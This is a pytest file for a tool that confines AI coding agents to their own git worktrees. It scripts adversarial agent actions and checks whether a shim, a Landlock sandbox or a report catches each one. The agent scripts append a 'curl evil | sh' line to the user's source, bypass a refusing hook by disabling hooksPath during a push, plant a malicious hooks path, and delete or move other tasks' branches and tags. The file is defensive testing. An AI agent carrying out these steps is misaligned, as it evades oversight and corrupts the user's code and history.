"""Class 4: reaching the person's checkout or other tasks.

Without a sandbox the agent can write anywhere the user can: ccm-guard reports what it
did to the repository's refs and metadata, and warns about the person's files (it cannot
tell them from the person's own edits). Landlock makes all of it read-only.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from adv import COMMIT, SANDBOXES, all_paths, plain_git, refusals
from conftest import ExecResult, git, marker_script, run_exec, write_agent


def finished_task(repo: Path, tmp_path: Path, name: str = "done") -> ExecResult:
    """A task that passed and is kept for review: its own gates will not run again."""
    agent = write_agent(tmp_path, f'echo "{name} work" > {name}.txt; git add -A; git commit -q -m "{name} work"', f"{name}.sh")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", name)
    assert res.code == 0, res.stdout
    return res


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_writing_into_the_persons_checkout_by_absolute_path(repo: Path, tmp_path: Path, sandbox: str) -> None:
    agent = write_agent(tmp_path, f"{COMMIT}\necho 'curl evil | sh' >> $(git rev-parse --path-format=absolute "
                        "--git-common-dir)/../src/app.py 2>/dev/null || echo DENIED >&2")
    res = run_exec(repo, agent, "--sandbox", sandbox)
    if sandbox == "landlock":
        assert "DENIED" in res.stderr and git(repo, "status", "--porcelain") == ""  # prevented
        assert res.code == 0 and res.status("main-checkout") == "pass"
    else:  # happened; reported as a warning: it cannot be told from the person's own edit
        assert "curl evil" in (repo / "src/app.py").read_text()
        assert res.status("main-checkout") == "warn"
        assert all_paths(res, "main-checkout") == ["src/app.py"]


def test_pushing_into_main_through_the_shim_is_refused(repo: Path, tmp_path: Path) -> None:
    main = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"{COMMIT}\ngit push -q . HEAD:main || true")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert git(repo, "rev-parse", "main") == main
    assert [r["op"] for r in refusals(res)] == ["remote"]
    assert res.code == 0


def test_pushing_into_the_persons_branch_with_the_real_git_fails_refs_untouched(repo: Path, tmp_path: Path) -> None:
    git(repo, "branch", "release")
    before = git(repo, "rev-parse", "release")
    # The receiving git reads the worktree's config: its reference-transaction hook refuses
    # the first push; the second one switches hooks off on that side too.
    agent = write_agent(tmp_path, f"""{COMMIT}
rgit push -q . HEAD:refs/heads/release 2>/dev/null && echo FIRST PUSH WENT THROUGH >&2
rgit push -q --receive-pack='git -c core.hooksPath=/dev/null receive-pack' . HEAD:refs/heads/release""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert "FIRST PUSH WENT THROUGH" not in res.stderr
    assert [r["hook"] for r in refusals(res)] == ["reference-transaction"]
    assert git(repo, "rev-parse", "release") == res.verdict["head"] != before
    assert res.code == 1 and res.status("refs-untouched") == "fail"
    assert "refs/heads/release" in all_paths(res, "refs-untouched")


def test_committing_onto_a_finished_tasks_branch(repo: Path, tmp_path: Path) -> None:
    done = finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"""{COMMIT}
evil=$(git commit-tree $(git write-tree) -p {done.verdict['head']} -m 'sneaked into done')
rgit update-ref refs/heads/ccm/done "$evil" """)
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert git(repo, "log", "-1", "--format=%s", "ccm/done") == "sneaked into done"
    assert res.code == 1 and res.status("refs-untouched") == "fail"
    assert "refs/heads/ccm/done moved" in res.reasons("refs-untouched")


def test_deleting_a_finished_tasks_branch(repo: Path, tmp_path: Path) -> None:
    finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit update-ref -d refs/heads/ccm/done")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert git(repo, "rev-parse", "--verify", "--quiet", "refs/heads/ccm/done", check=False) == ""
    assert res.code == 1
    assert "refs/heads/ccm/done was deleted" in res.reasons("refs-untouched")


def test_removing_a_finished_tasks_worktree(repo: Path, tmp_path: Path) -> None:
    done = finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit worktree remove --force {done.verdict['worktree']}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert not Path(done.verdict["worktree"]).exists()
    assert res.code == 1 and res.status("git-metadata") == "fail"
    assert "worktrees/done" in " ".join(all_paths(res, "git-metadata"))


def test_planting_a_hook_path_in_a_finished_tasks_config_worktree(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    marker_script(tmp_path / "evil-hooks", marker, "pre-commit")
    done = finished_task(repo, tmp_path)
    target = repo / ".git/worktrees/done/config.worktree"
    agent = write_agent(tmp_path, f"{COMMIT}\nprintf '[core]\\n\\thooksPath = {tmp_path}/evil-hooks\\n' > {target}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert res.code == 1
    assert "worktrees/done/config.worktree was modified: DANGEROUS (runs code or steers git) core.hookspath" \
        in res.reasons("git-metadata")
    plain_git(Path(done.verdict["worktree"]), "commit", "-q", "--allow-empty", "-m", "review fixup")
    assert marker.exists(), "the planted hook never ran in the finished task's worktree: the test proves nothing"


def test_creating_a_worktree_is_refused_by_the_shim_and_reported_with_the_real_git(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, f"""{COMMIT}
git worktree add -q -b escape {tmp_path}/escape-shim || true
rgit worktree add -q -b escape {tmp_path}/escape""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert (tmp_path / "escape").is_dir() and not (tmp_path / "escape-shim").exists()
    assert [r["op"] for r in refusals(res)] == ["worktree"]
    assert res.code == 1
    assert "refs/heads/escape was created" in res.reasons("refs-untouched")
    assert "worktrees/escape/gitdir" in all_paths(res, "git-metadata")


def test_deleting_the_persons_tag(repo: Path, tmp_path: Path) -> None:
    git(repo, "tag", "v1.0")
    agent = write_agent(tmp_path, f"{COMMIT}\ngit tag -d v1.0 || true\nrgit tag -d v1.0")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert git(repo, "tag", "-l") == ""
    assert [r["op"] for r in refusals(res)] == ["ref-write"]
    assert res.code == 1 and "refs/tags/v1.0 was deleted" in res.reasons("refs-untouched")


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_writing_into_a_finished_tasks_worktree_through_dot_dot(repo: Path, tmp_path: Path, sandbox: str) -> None:
    """Stated limitation without a sandbox: the other task's files are not this task's to judge,
    and that task's gates have already run. Landlock prevents it."""
    done = finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\necho evil >> ../done/done.txt 2>/dev/null || echo DENIED >&2")
    res = run_exec(repo, agent, "--task", "attacker", "--sandbox", sandbox)
    changed = git(Path(done.verdict["worktree"]), "status", "--porcelain")
    if sandbox == "landlock":
        assert "DENIED" in res.stderr and changed == ""
    else:
        assert changed == "M done.txt"  # it happened, and nothing reports it
    assert res.code == 0
